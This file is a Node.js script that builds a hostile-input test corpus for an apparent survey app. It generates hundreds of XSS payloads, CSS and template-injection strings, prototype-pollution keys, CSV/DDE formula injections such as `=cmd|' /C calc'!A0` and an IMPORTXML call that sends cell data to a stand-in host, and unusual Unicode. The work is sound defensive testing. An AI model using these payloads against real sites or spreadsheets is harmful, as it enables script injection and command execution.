// Writes tests/hostile/corpus.json: the hostile texts that the hostile-input
// tests put in every text field of a survey and type into every text answer.
// Each payload that could run calls `__suaraTrap()`, which the tests define
// as a trap (alert, confirm, prompt and print are trapped too), so any
// execution is counted. Run it again after changing the lists:
//   node tests/hostile/make-corpus.mjs
// Very large texts (10 MB, 10,000-deep nesting) are made by the tests
// themselves rather than kept here.
import { writeFileSync } from 'node:fs';

const T = '__suaraTrap()';
const out = new Set();
const add = (s) => out.add(s);

// Script tags, in the spellings filters miss.
for (const s of [
  `<script>${T}</script>`, `<SCRIPT>${T}</SCRIPT>`, `<ScRiPt>${T}</sCrIpT>`, `<script >${T}</script >`,
  `<script/x>${T}</script>`, `<script\n>${T}</script>`, `<script src="data:text/javascript,${T}"></script>`,
  `<script>/*</script><script>*/${T}</script>`, `</title><script>${T}</script>`, `</textarea><script>${T}</script>`,
  `</style><script>${T}</script>`, `"><script>${T}</script>`, `'><script>${T}</script>`, `--><script>${T}</script>`,
  `]]><script>${T}</script>`, `<scr<script>ipt>${T}</scr</script>ipt>`, `<script type="module">${T}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${T}>">`, `<template><script>${T}</script></template>`,
  `<<script>${T}//<</script>`,
]) add(s);

// Event handlers on many elements.
const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onbegin', 'onpointerenter', 'onwheel', 'oninput', 'onbeforetoggle'];
const tags = ['img src=x', 'svg', 'body', 'iframe', 'input autofocus', 'details open', 'video src=x', 'audio src=x', 'object data=x', 'div tabindex=1 style="animation:x"', 'marquee', 'select autofocus', 'textarea autofocus', 'keygen autofocus', 'button popovertarget=p', 'image src=x'];
for (const tag of tags) for (const ev of events) add(`<${tag} ${ev}=${T}>`);
for (const ev of events) {
  add(`<img src=x ${ev}="${T}">`);
  add(`" ${ev}="${T}" x="`);
  add(`' ${ev}='${T}' x='`);
  add(`<img/src=x/${ev}=${T}>`);
}

// javascript: and data: addresses, in links, frames, forms and CSS.
for (const url of [
  `javascript:${T}`, `JaVaScRiPt:${T}`, ` javascript:${T}`, `java\tscript:${T}`, `java&#x09;script:${T}`,
  `&#106;avascript:${T}`, `javascript&colon;${T}`, `vbscript:${T}`,
  `data:text/html,<script>${T}</script>`, `data:text/html;base64,PHNjcmlwdD5fX3N1YXJhVHJhcCgpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload=${T}>`,
]) {
  add(url);
  add(`<a href="${url}">click me</a>`);
  add(`<iframe src="${url}"></iframe>`);
  add(`<form action="${url}"><button>go</button></form>`);
  add(`<embed src="${url}">`);
  add(`<object data="${url}"></object>`);
  add(`[click](${url})`);
}

// SVG and MathML.
for (const s of [
  `<svg><script>${T}</script></svg>`, `<svg><animate onbegin=${T} attributeName=x dur=1s>`,
  `<svg><set onbegin=${T} attributeName=x to=1>`, `<svg><a xlink:href="javascript:${T}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${T}></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${T}'/></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${T}>`, `<math href="javascript:${T}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${T}">x</maction></math>`,
  `<svg><style>@import url(javascript:${T})</style></svg>`, `<svg><desc><![CDATA[</desc><script>${T}</script>]]></svg>`,
  `<math><mi xlink:href="data:x,<script>${T}</script>">x</mi></math>`,
]) add(s);

// CSS injection.
for (const s of [
  `<style>*{display:none!important}</style>`, `<style>@import "//example.invalid/x.css";</style>`,
  `<div style="background:url(javascript:${T})">x</div>`, `<div style="width:expression(${T})">x</div>`,
  `<link rel=stylesheet href="data:text/css,*{display:none}">`, `</style><style>body{visibility:hidden}</style>`,
  `}*{display:none}`, `;}:host{display:none}`, `x{color:red}</style>`, `<style>:host{all:unset}</style>`,
  `url(javascript:${T})`, `\\3c script\\3e ${T}\\3c /script\\3e`, `<base href="javascript:${T}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${T}">`,
]) add(s);

// Entities, encodings and template syntax that another layer might decode.
for (const s of [
  `&lt;script&gt;${T}&lt;/script&gt;`, `&#60;script&#62;${T}&#60;/script&#62;`, `%3Cscript%3E${T}%3C%2Fscript%3E`,
  `\\u003cscript\\u003e${T}\\u003c/script\\u003e`, `\\x3cscript\\x3e${T}`, `${'$'}{${T}}`, `{{${T}}}`,
  `{{constructor.constructor('${T}')()}}`, `<%= ${T} %>`, `#{${T}}`, `{q1}`, `{nope}`, `{{q1}}`, `{`, `}`, `{}`, `{q1`,
  `{"__proto__": {"polluted": true}}`, `__proto__`, `constructor`, `prototype`, `toString`, `hasOwnProperty`, `__defineGetter__`,
  `{"constructor": {"prototype": {"polluted": true}}}`, `null`, `undefined`, `NaN`, `true`, `[]`, `0`, `-0`, `1e309`,
]) add(s);

// Spreadsheet formulas (CSV injection).
for (const s of [
  `=1+1`, `=1+2`, `+1+2`, `-1+2`, `@SUM(1;2)`, `\t=1+2`, `\r=1+2`, `\n=1+2`, ` =1+2`, `=HYPERLINK("http://example.invalid","x")`,
  `=cmd|' /C calc'!A0`, `=IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")`, `=WEBSERVICE("http://example.invalid")`,
  `-2+3+cmd|' /C calc'!A0`, `@cmd|'/c calc'!_xlbgnm.A1`, `＝1+2`, `=1+2;=3+4`, `"=1+2"`, `'=1+2`, `=`, `+`, `-`, `@`,
  `=DDE("cmd";"/C calc";"x")`, `=SUM(A1:A2)`, `=A1`, `=1/0`, `+1`, `-1`, `-5 degrees`, `@home`, `=2+3,=4+5`,
]) add(s);

// Bidi controls, zero-width and combining characters, other odd Unicode.
for (const s of [
  '\u202Egnp.exe', 'abc\u202Edef\u202C', '\u2066isolate\u2069', '\u2067rtl\u2069', '\u2068first\u2069', '\u200Ezero\u200F',
  '\u061Carabic mark', 'a\u200Bb\u200Cc\u200Dd', '\uFEFFbom inside', '\u2060word\u2060joiner', 'e\u0301\u0301\u0301\u0301',
  'Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035A\u035B\u035C\u035D\u035E\u035F', '\u0000nul', 'tab\there', 'line\nbreak',
  'cr\rreturn', 'crlf\r\nend', '\u2028line sep', '\u2029para sep', '\u0085next line', '\u000Bvtab', '\u000Cformfeed', '\u001Besc',
  '\u007Fdel', '😀👍🏽👩‍👩‍👧‍👦', '🏳️‍🌈', '\uD83D\uDE00', '𝕳𝖊𝖑𝖑𝖔', 'ﷺ', 'Ꙭ', '\u00AD soft hyphen', 'ﬁ ligature',
  'مرحبا بالعالم', 'שלום', 'Bahasa Indonesia', '日本語テキスト', '한국어', 'ไทย', 'हिन्दी', 'Ελληνικά', '\u0300starts combining',
  '\uFFFD replacement', '\uFFFF noncharacter', '\u2800 braille blank', '\u3000 ideographic space', '   leading spaces', 'trailing spaces   ',
]) add(s);

// Mixed: each markup payload after ordinary words, in quotes, with line breaks and before a formula sign.
const markup = [...out].filter((s) => s.includes('<')).slice(0, 40);
for (const s of markup) {
  add(`Pelayanan bagus ${s}`);
  add(`"${s}"`);
  add(`${s}\n${s}`);
  add(`=${s}`);
}

const list = [...out];
if (list.length < 500) throw new Error(`only ${list.length} payloads`);
writeFileSync(new URL('./corpus.json', import.meta.url), JSON.stringify(list, null, 1) + '\n');
console.log(`${list.length} payloads`);
